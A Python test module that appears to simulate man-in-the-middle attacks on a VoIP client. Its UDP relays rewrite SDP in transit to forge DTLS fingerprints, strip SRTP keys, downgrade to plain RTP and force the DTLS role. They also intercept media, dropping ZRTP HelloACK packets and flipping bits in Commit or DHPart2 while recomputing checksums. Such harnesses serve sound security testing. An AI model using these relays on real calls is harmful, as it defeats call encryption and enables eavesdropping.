"""An attacker on the signalling path: a UDP relay that alters the descriptions which pass it; and one on both paths."""
import re
import select
import socket
import struct
import threading

from udp import HOST, Listener


def other_fingerprint(sdp):
    """Another certificate's fingerprint, of the same length."""
    def flip(m):
        return m.group(1) + "".join("0" if c in "13579BDFbdf" else ("1" if c in "02468ACEace" else c) for c in m.group(2))
    return re.sub(r"(a=fingerprint:\S+ )([0-9A-Fa-f:]+)", flip, sdp)


def without_keys(sdp):
    """The a=crypto lines are gone; the profile still promises SRTP."""
    return re.sub(r"a=crypto:[^\r\n]*\r?\n", "", sdp)


def as_rtp(sdp):
    """No keys, and as if RTP had been asked for."""
    sdp = without_keys(sdp)
    return re.sub(r"(m=\S+ \d+ )(UDP/TLS/)?RTP/SAVPF?", r"\1RTP/AVP", sdp)


def active(sdp):
    """Who offers wants to be the client of DTLS."""
    return sdp.replace("a=setup:actpass", "a=setup:active")


MANGLES = {"active-offer": active, "wrong-fingerprint": other_fingerprint, "stripped-crypto": without_keys, "stripped-to-rtp": as_rtp}


class Mangler(Listener):
    """Listens on one port, forwards to another; answers go back to whoever asked last. Alters what the target
    sends (answers) or what is sent to it (offers)."""

    def __init__(self, port, target, mangle, answers):
        self.alter, self.target, self.answers, self.altered = MANGLES.get(mangle), (HOST, target), answers, 0
        self.asker = None
        super().__init__(port)

    def _message(self, data):
        text = data.decode("utf-8", "surrogateescape")
        head, gap, body = text.partition("\r\n\r\n")
        if not body.startswith("v=0"):
            return data
        new = self.alter(body)
        if new == body:
            return data
        self.altered += 1
        head = re.sub(r"(?im)^(content-length|l)\s*:.*?(\r?)$", lambda m: f"Content-Length: {len(new.encode())}{m.group(2)}", head)
        return (head + gap + new).encode("utf-8", "surrogateescape")

    def heard(self, data, source):
        if source == self.target:
            where = self.asker
        else:
            self.asker, where = source, self.target
        if where:
            self.socket.sendto(self._pass(data, source == self.target), where)

    def _pass(self, data, from_target):
        return self._message(data) if from_target == self.answers else data


# ---- the media path ------------------------------------------------------------------------------

def crc32c(data):
    """RFC 4960 B, as it goes on the wire."""
    c = 0xffffffff
    for byte in data:
        c ^= byte
        for _ in range(8):
            c = (c >> 1) ^ (0x82f63b78 if c & 1 else 0)
    return struct.pack("<I", c ^ 0xffffffff)


# RFC 6189 5.4, 5.6: where hvi begins in a packet with a Commit, and the public value in one with a DHPart2.
ZRTP_FIELD = {b"Commit  ": 12 + 12 + 32 + 12 + 20, b"DHPart2 ": 12 + 12 + 32 + 4 * 8}


def zrtp_type(packet):
    return packet[16:24] if packet[4:8] == b"ZRTP" and len(packet) >= 28 else b""


def with_wrong(message):
    """One bit of hvi or of the public value is another; the checksum is right."""
    def change(packet):
        if zrtp_type(packet) != message:
            return packet
        at = ZRTP_FIELD[message]
        packet = packet[:at] + bytes([packet[at] ^ 1]) + packet[at + 1:]
        return packet[:-4] + crc32c(packet[:-4])
    return change


class MediaMangler(Mangler):
    """In between on both paths: each end is told that the other's media is at a port of ours, and sees it come from
    there. Of the target (or the asker) every packet goes through change(); its HelloACK never arrives, so that the
    other one waits for it, and the Commit is the first one's."""

    def __init__(self, port, target, change, of_target, media=23000):
        self.change, self.of_target, self.mangled = change, of_target, 0
        self.ends, self.box = {}, {}  # by whether it is the target: where it is; what arrives here goes to it
        for end in (True, False):
            self.box[end] = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self.box[end].bind((HOST, media + 2 * end))
        super().__init__(port, target, None, answers=False)
        self.media_thread = threading.Thread(target=self._relay_media, daemon=True)
        self.media_thread.start()

    def _pass(self, data, from_target):
        text = data.decode("utf-8", "surrogateescape")
        head, gap, body = text.partition("\r\n\r\n")
        if not body.startswith("v=0"):
            return data
        self.ends[from_target] = (re.search(r"(?m)^c=IN IP4 (\S+)", body).group(1),
                                  int(re.search(r"(?m)^m=audio (\d+)", body).group(1)))
        body = re.sub(r"(?m)^m=audio \d+", f"m=audio {self.box[from_target].getsockname()[1]}", body)
        body = re.sub(r"(?m)^c=IN IP4 [^\s]+", f"c=IN IP4 {HOST}", body)
        body = re.sub(r"(?m)^a=rtcp:[^\r\n]*\r?\n", "", body)
        self.altered += 1
        head = re.sub(r"(?im)^(content-length|l)\s*:.*?(\r?)$", lambda m: f"Content-Length: {len(body.encode())}{m.group(2)}", head)
        return (head + gap + body).encode("utf-8", "surrogateescape")

    def _carry(self, to, packet):
        if self.of_target != to:
            if zrtp_type(packet) == b"HelloACK":
                return
            self.mangled += self.change(packet) != packet
            packet = self.change(packet)
        if to in self.ends:
            self.box[not to].sendto(packet, self.ends[to])

    def _relay_media(self):
        while not self.over:
            for s in select.select(list(self.box.values()), [], [], 0.2)[0]:
                try:
                    self._carry(s is self.box[True], s.recvfrom(65535)[0])
                except OSError:
                    pass

    def stop(self):
        super().stop()
        self.media_thread.join(1)
        for s in self.box.values():
            s.close()
